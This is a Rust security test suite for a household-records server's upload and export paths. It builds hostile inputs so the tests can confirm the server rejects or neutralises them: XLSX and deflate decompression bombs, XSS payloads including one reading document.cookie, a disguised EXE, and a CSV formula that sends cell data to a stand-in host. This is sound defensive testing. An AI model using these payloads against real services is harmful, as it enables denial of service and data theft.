//! Issue 9 (trust), uploads and exports: a crafted spreadsheet is refused with the cap
//! it breaks and the server keeps serving (H5); attachments are sniffed, allow-listed,
//! under quota and served as downloads, with no existence oracle (M8, L10); whole-region
//! reports are bounded (M9); CSV cells never become formulas (M1).

use crate::harness::*;
use crate::on_both_backends;
use serde_json::{Value, json};
use std::io::Write;
use uuid::Uuid;

on_both_backends!(
    the_reviews_bomb_xlsx_is_refused_and_the_server_keeps_serving,
    a_deflate_bombed_shared_strings_part_is_refused,
    a_list_past_the_row_or_cell_cap_is_refused,
    attachments_are_sniffed_and_allow_listed,
    attachments_stop_at_the_quota,
    attachments_download_as_files_and_hide_what_the_caller_cannot_read,
    csv_exports_never_carry_a_formula,
    a_report_over_too_many_households_is_refused,
);

async fn upload_list(who: &Admin, file_name: &str, bytes: Vec<u8>) -> (u16, Value) {
    let form = reqwest::multipart::Form::new()
        .text("source", "deaths")
        .part("file", reqwest::multipart::Part::bytes(bytes).file_name(file_name.to_owned()));
    who.post_multipart("/api/v1/comparisons", form).await
}

/// The review's `bomb.xlsx` (H5), part for part, with `shared_strings` added when given.
fn workbook(sheet_data: &str, shared_strings: Option<&[u8]>) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    let sheet = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{sheet_data}</sheetData></worksheet>"#
    );
    let parts: [(&str, &[u8]); 5] = [
        (
            "[Content_Types].xml",
            br#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#,
        ),
        (
            "_rels/.rels",
            br#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#,
        ),
        (
            "xl/workbook.xml",
            br#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
        ),
        (
            "xl/_rels/workbook.xml.rels",
            br#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#,
        ),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
    ];
    for (name, body) in parts.into_iter().chain(shared_strings.map(|s| ("xl/sharedStrings.xml", s))) {
        zip.start_file(name, options).expect("zip entry");
        zip.write_all(body).expect("zip write");
    }
    zip.finish().expect("zip").into_inner()
}

fn inline(cell: &str, text: &str) -> String {
    format!(r#"<c r="{cell}" t="inlineStr"><is><t>{text}</t></is></c>"#)
}

fn code(body: &Value) -> Option<&str> {
    body["error"]["code"].as_str()
}

async fn the_reviews_bomb_xlsx_is_refused_and_the_server_keeps_serving(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    seed(&app).await;
    let county = Admin::login(&app.base, "county", PASSWORD).await;
    let bomb = workbook(
        &format!(
            r#"<row r="1">{}</row><row r="1048576">{}</row>"#,
            inline("A1", "身份证号码"),
            inline("XFD1048576", "x")
        ),
        None,
    );
    assert!(bomb.len() < 4096, "a small file: {} bytes", bomb.len());
    let (status, body) = upload_list(&county, "bomb.xlsx", bomb.clone()).await;
    assert_eq!(status, 422, "{body}");
    assert!(matches!(code(&body), Some("file_too_many_rows" | "file_too_many_columns")), "{body}");
    assert!(body["error"]["message_zh"].as_str().is_some_and(|m| !m.is_empty()));

    // The same cell alone, in row 1: the column cap.
    let wide = workbook(&format!(r#"<row r="1">{}{}</row>"#, inline("A1", "身份证号码"), inline("XFD1", "x")), None);
    let (status, body) = upload_list(&county, "wide.xlsx", wide).await;
    assert_eq!((status, code(&body)), (422, Some("file_too_many_columns")), "{body}");

    // Several at once, then the server still answers, and a real list still imports.
    let uploads = (0..4).map(|_| upload_list(&county, "bomb.xlsx", bomb.clone()));
    for (status, body) in futures::future::join_all(uploads).await {
        assert!(status == 422 || (status == 503 && code(&body) == Some("busy")), "{status} {body}");
    }
    let phone = app.phone("officer-a", "phone-a").await;
    let (household, _) = create_household(&phone, VILLAGE_1, 0).await;
    let record = app.admin.household(household).await;
    let id_number = record["member"][0]["id_number"].as_str().expect("id number").to_owned();
    let list = workbook(
        &format!(
            r#"<row r="1">{}{}</row><row r="2">{}{}</row>"#,
            inline("A1", "身份证号码"),
            inline("B1", "死亡日期"),
            inline("A2", &id_number),
            inline("B2", "2026-10-01")
        ),
        None,
    );
    let (status, report) = upload_list(&county, "deaths.xlsx", list).await;
    assert_eq!(status, 200, "{report}");
    assert_eq!(report["rows_matched"], 1);
}

async fn a_deflate_bombed_shared_strings_part_is_refused(backend: Backend) {
    let app = TestApp::spawn_with(backend, |config| config.uploads.max_unpacked_bytes = 1024 * 1024).await;
    seed(&app).await;
    let county = Admin::login(&app.base, "county", PASSWORD).await;
    // 16 MB of one letter deflates to about 16 KB.
    let mut sst = br#"<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>"#.to_vec();
    sst.extend(std::iter::repeat_n(b'a', 16 * 1024 * 1024));
    sst.extend_from_slice(b"</t></si></sst>");
    let bomb = workbook(r#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#, Some(&sst));
    assert!(bomb.len() < 100 * 1024, "a small file: {} bytes", bomb.len());
    let (status, body) = upload_list(&county, "bomb.xlsx", bomb).await;
    assert_eq!((status, code(&body)), (422, Some("file_too_large_unpacked")), "{body}");

    // A shared-string count no part could hold (calamine reserves room for it) is refused too.
    let lying = br#"<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" uniqueCount="9999999999999"><si><t>a</t></si></sst>"#;
    let (status, body) =
        upload_list(&county, "count.xlsx", workbook(r#"<row r="1"><c r="A1" t="s"><v>0</v></c></row>"#, Some(lying)))
            .await;
    assert_eq!((status, code(&body)), (400, Some("invalid_file")), "{body}");
    let (status, _) = county.get("/api/v1/comparisons/leads").await;
    assert_eq!(status, 200, "still serving");
}

async fn a_list_past_the_row_or_cell_cap_is_refused(backend: Backend) {
    let app = TestApp::spawn_with(backend, |config| config.uploads.max_rows = 5).await;
    seed(&app).await;
    let county = Admin::login(&app.base, "county", PASSWORD).await;
    let id = fresh_id_number();
    let rows: String = (0..6).map(|_| format!("张三,{id}\n")).collect();
    let (status, body) = upload_list(&county, "list.csv", format!("姓名,身份证号码\n{rows}").into_bytes()).await;
    assert_eq!((status, code(&body)), (422, Some("file_too_many_rows")), "{body}");
    let cells: String = (2..=7).map(|r| format!(r#"<row r="{r}">{}</row>"#, inline(&format!("A{r}"), &id))).collect();
    let sheet = workbook(&format!(r#"<row r="1">{}</row>{cells}"#, inline("A1", "身份证号码")), None);
    let (status, body) = upload_list(&county, "list.xlsx", sheet).await;
    assert_eq!((status, code(&body)), (422, Some("file_too_many_rows")), "{body}");

    let long = "长".repeat(5000);
    let (status, body) = upload_list(&county, "list.csv", format!("姓名,身份证号码\n{long},{id}\n").into_bytes()).await;
    assert_eq!((status, code(&body)), (422, Some("file_cell_too_large")), "{body}");
    assert_eq!(body["error"]["fields"][0]["field"], "file");
    let (status, body) = upload_list(&county, "list.csv", format!("姓名,身份证号码\n张三,{id}\n").into_bytes()).await;
    assert_eq!(status, 200, "within the caps: {body}");
}

const JPEG: &[u8] = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00";

fn jpeg(size: usize, seed: u32) -> Vec<u8> {
    let mut bytes = JPEG.to_vec();
    bytes.extend(
        (0..size.saturating_sub(JPEG.len()) as u32).map(|i| (i.wrapping_mul(7).wrapping_add(seed) % 251) as u8),
    );
    bytes
}

async fn attachments_are_sniffed_and_allow_listed(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    seed(&app).await;
    let a = app.phone("officer-a", "phone-a").await;
    let (household, _) = create_household(&a, VILLAGE_1, 0).await;
    for (name, claimed, bytes) in [
        ("page.html", "text/html", b"<html><script>alert(document.cookie)</script></html>".to_vec()),
        ("photo.jpg", "image/jpeg", b"<html><script>alert(1)</script></html>".to_vec()),
        ("setup.exe", "image/png", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec()),
        ("drawing.svg", "image/svg+xml", br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>"#.to_vec()),
    ] {
        let err = a.upload_attachment(household, name, claimed, bytes).await.expect_err(name);
        assert_eq!((err.status(), err.code()), (Some(415), Some("content_type_not_allowed")), "{name}");
    }
    for (name, bytes) in [
        ("visit.jpg", jpeg(2000, 1)),
        ("visit.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01".to_vec()),
        ("visit.webp", b"RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00".to_vec()),
        ("contract.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec()),
    ] {
        // What the phone claims does not matter; the bytes do.
        a.upload_attachment(household, name, "application/octet-stream", bytes).await.expect(name);
    }
}

async fn attachments_stop_at_the_quota(backend: Backend) {
    let app = TestApp::spawn_with(backend, |config| {
        config.uploads.attachment_quota_per_user_bytes = 50_000;
        config.uploads.attachment_quota_per_household_bytes = 30_000;
    })
    .await;
    seed(&app).await;
    let a = app.phone("officer-a", "phone-a").await;
    let b = app.phone("officer-b", "phone-b").await;
    let (first, _) = create_household(&a, VILLAGE_1, 0).await;
    let (second, _) = create_household(&a, VILLAGE_1, 0).await;
    let (third, _) = create_household(&a, VILLAGE_2, 0).await;

    a.upload_attachment(first, "1.jpg", "image/jpeg", jpeg(20_000, 1)).await.expect("within both quotas");
    let err = a.upload_attachment(first, "2.jpg", "image/jpeg", jpeg(20_000, 2)).await.expect_err("household full");
    assert_eq!((err.status(), err.code()), (Some(413), Some("quota_exceeded")));
    a.upload_attachment(second, "2.jpg", "image/jpeg", jpeg(20_000, 2)).await.expect("another household");
    let err = a.upload_attachment(third, "3.jpg", "image/jpeg", jpeg(20_000, 3)).await.expect_err("user full");
    assert_eq!((err.status(), err.code()), (Some(413), Some("quota_exceeded")));
    // The same photo again for the same household is the same attachment, not a new cost.
    a.upload_attachment(first, "1-again.jpg", "image/jpeg", jpeg(20_000, 1)).await.expect("idempotent");
    // Bytes already stored cost an uploader as much as new ones (no existence oracle):
    // B's quota is B's, and B may still add A's photo to a household of B's own.
    let (own, _) = create_household(&b, VILLAGE_2, 0).await;
    b.upload_attachment(own, "1.jpg", "image/jpeg", jpeg(20_000, 1)).await.expect("B's own quota");
    let err = b.upload_attachment(own, "2.jpg", "image/jpeg", jpeg(20_000, 2)).await.expect_err("B's household full");
    assert_eq!((err.status(), err.code()), (Some(413), Some("quota_exceeded")));
}

async fn attachments_download_as_files_and_hide_what_the_caller_cannot_read(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    seed(&app).await;
    let a = app.phone("officer-a", "phone-a").await;
    let b = app.phone("officer-b", "phone-b").await;
    let (household, _) = create_household(&a, VILLAGE_1, 0).await;
    let photo = jpeg(5000, 9);
    // Claimed as HTML: stored and served as what the bytes are.
    let stored = a.upload_attachment(household, "走访<照片>.jpg", "text/html", photo.clone()).await.expect("upload");
    let http = reqwest::Client::new();
    let download = |token: &str, id: Uuid| {
        http.get(format!("{}/api/mobile/v1/attachments/{id}", app.base)).bearer_auth(token.to_owned()).send()
    };
    let res = download(a.token().expect("token"), stored.id).await.expect("download");
    assert_eq!(res.status(), 200);
    let header = |name: &str| res.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned();
    assert_eq!(header("content-type"), "image/jpeg");
    assert_eq!(header("x-content-type-options"), "nosniff");
    let disposition = header("content-disposition");
    assert!(disposition.starts_with("attachment;"), "{disposition}");
    assert!(!disposition.contains('<'), "the stored name is encoded: {disposition}");
    assert_eq!(res.bytes().await.expect("body").to_vec(), photo);

    // Out of scope and unknown look the same.
    let out_of_scope = download(b.token().expect("token"), stored.id).await.expect("download");
    let unknown = download(b.token().expect("token"), Uuid::new_v4()).await.expect("download");
    assert_eq!((out_of_scope.status().as_u16(), unknown.status().as_u16()), (404, 404));
    let (left, right): (Value, Value) =
        (out_of_scope.json().await.expect("error body"), unknown.json().await.expect("error body"));
    assert_eq!(left, right);
}

async fn csv_exports_never_carry_a_formula(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    seed(&app).await;
    let a = app.phone("officer-a", "phone-a").await;
    let formula = r#"=HYPERLINK("http://x.example/?"&A1,"张三")"#;
    let (household, _, mut changes) = new_household(VILLAGE_1, 0);
    changes[0].fields.insert("outside_national_system".into(), json!(true));
    changes[0].fields.insert("outside_reason".into(), json!("-2+3"));
    changes[1].fields.insert("name".into(), json!(formula));
    let res = push(&a, vec![changeset(changes)]).await;
    assert_eq!(res.results[0].status, jingzhun_mobile_api::wire::ChangeSetStatus::Applied, "{:?}", res.results[0]);
    // The 系统外 list is of households newly identified (001), so this one is identified.
    let village = Admin::login(&app.base, "village-1", PASSWORD).await;
    let case = village.ok_post("/api/v1/cases", json!({"household_id": household, "kind": "identify"})).await;
    pass_every_step(&app, case["id"].as_str().expect("case id")).await;

    let county = Admin::login(&app.base, "county", PASSWORD).await;
    let (status, csv) =
        county.get_text(&format!("/api/v1/reports/outside_system?region_code={COUNTY}&format=csv")).await;
    assert_eq!(status, 200, "{csv}");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv.as_bytes());
    let cells: Vec<String> =
        reader.records().flat_map(|r| r.expect("csv row").iter().map(str::to_owned).collect::<Vec<_>>()).collect();
    assert!(cells.iter().any(|c| *c == format!("'{formula}")), "the name is text: {cells:?}");
    assert!(cells.iter().any(|c| c == "'-2+3"), "the reason is text: {cells:?}");
    assert!(!cells.iter().any(|c| c.starts_with(['=', '+', '@'])), "no cell is a formula: {cells:?}");
}

async fn a_report_over_too_many_households_is_refused(backend: Backend) {
    let app = TestApp::spawn_with(backend, |config| config.reports.max_households = 1).await;
    seed(&app).await;
    let a = app.phone("officer-a", "phone-a").await;
    create_household(&a, VILLAGE_1, 0).await;
    create_household(&a, VILLAGE_2, 0).await;
    let county = Admin::login(&app.base, "county", PASSWORD).await;
    for path in [
        format!("/api/v1/reports/register?region_code={COUNTY}&format=csv"),
        format!("/api/v1/reports/data_quality?region_code={COUNTY}&format=json"),
        format!("/api/v1/quality?region_code={COUNTY}"),
    ] {
        let (status, body) = county.get(&path).await;
        assert_eq!((status, code(&body)), (422, Some("report_too_large")), "{path}: {body}");
    }
    // One village holds one household: within the limit.
    let (status, body) = county.get(&format!("/api/v1/reports/register?region_code={VILLAGE_1}&format=json")).await;
    assert_eq!(status, 200, "{body}");
}
